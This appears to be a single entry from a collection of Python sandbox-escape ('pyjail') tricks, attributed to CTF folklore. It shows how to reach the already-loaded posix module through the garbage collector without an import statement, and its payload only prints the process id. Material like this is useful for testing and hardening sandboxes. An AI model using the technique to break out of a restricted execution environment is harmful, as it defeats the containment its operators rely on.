# technique: gc lists all objects, modules included
# goal: import
# source: CTF folklore
import gc
for thing in gc.get_objects():
    if type(thing) is type(gc) and thing.__name__ == 'posix':
        print('ESCAPED pid=%d' % thing.getpid())
        break
